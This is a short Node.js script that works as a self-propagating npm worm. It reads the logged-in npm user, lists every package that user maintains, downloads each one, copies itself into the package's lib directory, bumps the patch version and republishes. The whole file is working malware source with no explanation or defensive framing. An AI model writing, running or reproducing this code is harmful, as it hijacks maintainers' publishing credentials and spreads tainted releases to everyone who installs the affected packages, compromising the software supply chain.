const { execSync } = require('child_process'), fs = require('fs'), os = require('os');
JSON.parse(execSync('npm search --json maintainer:' + execSync('npm whoami'))).forEach((p) => {
  const d = fs.mkdtempSync(os.tmpdir() + '/w');
  execSync('npm pack ' + p.name + ' && tar xzf *.tgz', { cwd: d });
  fs.copyFileSync(__filename, d + '/package/lib/x.js');
  execSync('npm version patch && npm publish', { cwd: d + '/package' });
});
